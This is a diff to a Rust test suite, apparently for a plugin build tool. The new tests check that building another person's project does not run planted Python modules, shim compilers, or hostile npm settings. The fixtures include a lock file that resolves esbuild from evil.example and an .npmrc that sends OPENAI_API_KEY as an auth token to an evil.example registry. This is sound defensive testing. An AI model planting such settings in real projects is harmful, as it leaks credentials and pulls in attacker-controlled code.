@@ -552,7 +552,7 @@ fn a_build_of_somebody_elses_project_asks_first() {
     let script = fs::read_to_string(scripted.place.path().join("p/cargo.sh")).unwrap();
     scripted.place.write("p/cargo.sh", &format!("touch ran\n{script}"));
     scripted.place.write("p/build.rs", "fn main() {}");
-    scripted.place.write("p/Cargo.lock", "[[package]]\nname = \"ev\u{1b}[2Jil\"\n");
+    scripted.place.write("p/Cargo.lock", "[[package]]\nname = \"ev\\u001b[2Jil\"\n");
     let ran = scripted.place.path().join("p/ran");
     let build = |words: &[&str]| {
         let mut command = host();
@@ -590,6 +590,134 @@ fn a_build_of_somebody_elses_project_asks_first() {
     assert!(own.code == 13 && !own.stderr.contains("runs these"), "{}", own.all());
     fs::rename(scripted.place.path().join("mine"), scripted.place.path().join("theirs")).unwrap();
     assert_eq!(build(&["theirs"]).code, 15, "another folder");
+}
+
+/// Python's own rule: without `-I` a module of the current folder comes before the installed one.
+#[cfg(unix)]
+const PYTHON: &str = r#"#!/bin/sh
+isolated=
+if test "$1" = -I; then isolated=yes; shift; fi
+if test "$1" = -c; then echo 3 12; exit; fi
+module=$2
+if test -z "$isolated"; then
+    for file in "$module.py" "$module/__init__.py" sitecustomize.py; do
+        if test -e "$file"; then . "./$file"; fi
+    done
+fi
+if test "$module" = venv; then mkdir -p "$4/bin"; cp "$0" "$4/bin/python"; touch "$4/pyvenv.cfg"; fi
+if test "$module $3" = "ziglang cc"; then
+    for file in "$@"; do :; done
+    case "$*" in *" -E -M "*)
+        echo "x.o: $file $(sed -n 's/^#include "\(\/.*\)"/\1/p' "$file")"
+        exit
+    esac
+    echo "the compiler ran" >&2
+    exit 1
+fi
+"#;
+
+/// Files of a project or of the current folder are none of Python's modules, and the folders of
+/// `PATH` are none of the project's.
+#[cfg(unix)]
+#[test]
+fn a_build_runs_no_file_of_a_project_as_a_tool() {
+    let place = Place::new();
+    place.run(&["new", "c", "--role", "reward", "--lang", "c"]);
+    let planted = format!("touch {}/ran\n", place.path().display());
+    for folder in ["", "c/", "c/build/"] {
+        for file in ["venv.py", "pip.py", "ziglang.py", "sitecustomize.py", "ziglang/__init__.py"] {
+            place.write(&format!("{folder}{file}"), &planted);
+        }
+    }
+    for (path, text) in [("tools/python3", PYTHON), ("c/clang", &format!("#!/bin/sh\n{planted}"))] {
+        place.write(path, text);
+        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
+        fs::set_permissions(place.path().join(path), mode).unwrap();
+    }
+    let path = format!(".:{}::/usr/bin:/bin", place.path().join("tools").display());
+    let code = fs::read_to_string(place.path().join("c/plugin.c")).unwrap();
+    for folder in [place.path().to_owned(), place.path().join("c")] {
+        let project = place.path().join("c");
+        let mut command = place.plugin(&["build", "--no-scripts"]);
+        command.arg(project).env("PATH", &path).current_dir(folder);
+        let built = Said::from_output(command.output().unwrap());
+        assert!(built.stderr.contains("the compiler ran"), "{}", built.all());
+        assert!(!place.path().join("ran").exists(), "{}", built.all());
+    }
+    // Nor does a file of the user become a part of somebody else's component.
+    let secret = place.path().join("venv.py").display().to_string();
+    fs::rename(place.path().join("c"), place.path().join("theirs")).unwrap();
+    place.write("theirs/plugin.c", &format!("#include \"{secret}\"\n{code}"));
+    let mut command = place.plugin(&["build", "theirs"]);
+    let refused = Said::from_output(command.env("PATH", &path).output().unwrap());
+    assert_eq!(refused.code, 10, "{}", refused.all());
+    for part in [&secret, "lies outside of the project"] {
+        assert!(refused.stderr.contains(part), "{}", refused.all());
+    }
+    assert!(!refused.stderr.contains("the compiler ran"), "{}", refused.all());
+}
+
+/// The settings and the lock of npm that somebody else's project brings: they are shown, they get
+/// no credential that they do not name, and `--no-scripts` refuses them.
+#[cfg(unix)]
+#[test]
+fn npm_takes_no_settings_of_somebody_else_unseen() {
+    let scripted = Scripted::new("calibrator");
+    let place = &scripted.place;
+    place.run(&["new", "mine", "--role", "calibrator", "--lang", "js"]);
+    fs::rename(place.path().join("mine"), place.path().join("theirs")).unwrap();
+    let npm = "#!/bin/sh\nenv > seen\nexit 1\n";
+    place.write("tools/npm", npm);
+    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
+    fs::set_permissions(place.path().join("tools/npm"), mode).unwrap();
+    let build = |words: &[&str]| {
+        let mut command = host();
+        command
+            .current_dir(place.path())
+            .env("SYRCH_STATE_DIR", place.path().join("state"))
+            .env("PATH", &scripted.path)
+            .env("OPENAI_API_KEY", "canary")
+            .env("GITHUB_TOKEN", "canary")
+            .args(["plugin", "build", "theirs"])
+            .args(words);
+        Said::from_output(command.output().unwrap())
+    };
+    let seen = place.path().join("theirs/seen");
+    let plain = build(&["--yes", "--no-scripts"]);
+    assert!(plain.stderr.contains("npm install failed"), "{}", plain.all());
+    assert!(!fs::read_to_string(&seen).unwrap().contains("canary"));
+    fs::remove_file(&seen).unwrap();
+
+    let lock = r#"{"packages": {"node_modules/esbuild":
+        {"version": "0.28.2", "resolved": "http://evil.example/esbuild.tgz"}}}"#;
+    let settings = "registry=http://evil.example/\n//evil.example/:_authToken=${OPENAI_API_KEY}\n";
+    for (file, text, parts) in [
+        ("package-lock.json", lock, vec!["esbuild http://evil.example/esbuild.tgz"]),
+        (
+            ".npmrc",
+            settings,
+            vec!["registry=http://evil.example/", "`OPENAI_API_KEY` is sent", "//evil.example/:"],
+        ),
+        (".tool-versions", "nodejs path:./evil\n", vec!["/.tool-versions`"]),
+    ] {
+        place.write(&format!("theirs/{file}"), text);
+        let refused = build(&["--yes", "--no-scripts"]);
+        assert_eq!(refused.code, 10, "{}", refused.all());
+        assert!(refused.stderr.contains(file) && !seen.exists(), "{}", refused.all());
+        let asked = build(&[]);
+        assert_eq!(asked.code, 15, "{}", asked.all());
+        for part in parts {
+            assert!(asked.stderr.contains(part), "`{part}` is not in {}", asked.all());
+        }
+        assert!(!seen.exists());
+        if file == ".npmrc" {
+            build(&["--yes"]);
+            let given = fs::read_to_string(&seen).unwrap();
+            assert!(given.contains("OPENAI_API_KEY=canary") && !given.contains("GITHUB_TOKEN"));
+            fs::remove_file(&seen).unwrap();
+        }
+        fs::remove_file(place.path().join("theirs").join(file)).unwrap();
+    }
 }
 
 /// Links that a clone holds: nothing is written where they lead, and the folder that a link names
